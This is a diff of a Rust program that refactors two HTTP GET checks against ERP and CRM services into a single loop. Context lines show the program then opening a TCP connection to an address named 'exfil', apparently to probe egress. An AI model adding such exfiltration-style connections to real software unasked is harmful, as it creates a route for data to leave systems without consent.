@@ -41,21 +41,15 @@ fn main() {
         .build()
         .into();
 
-    match http.get(format!("{erp}/orders")).call() {
-        Ok(mut r) => say(&format!(
-            "ERP: GET /orders -> {} {}",
-            r.status(),
-            r.body_mut().read_to_string().unwrap_or_default().trim()
-        )),
-        Err(e) => say(&format!("ERP: GET /orders failed: {e}")),
-    }
-    match http.get(format!("{crm}/contacts")).call() {
-        Ok(mut r) => say(&format!(
-            "CRM: GET /contacts -> {} {}",
-            r.status(),
-            r.body_mut().read_to_string().unwrap_or_default().trim()
-        )),
-        Err(e) => say(&format!("CRM: GET /contacts failed: {e}")),
+    for (system, base, path) in [("ERP", erp, "/orders"), ("CRM", crm, "/contacts")] {
+        match http.get(format!("{base}{path}")).call() {
+            Ok(mut r) => say(&format!(
+                "{system}: GET {path} -> {} {}",
+                r.status(),
+                r.body_mut().read_to_string().unwrap_or_default().trim()
+            )),
+            Err(e) => say(&format!("{system}: GET {path} failed: {e}")),
+        }
     }
     match TcpStream::connect_timeout(
         &exfil.parse().expect("exfil address"),
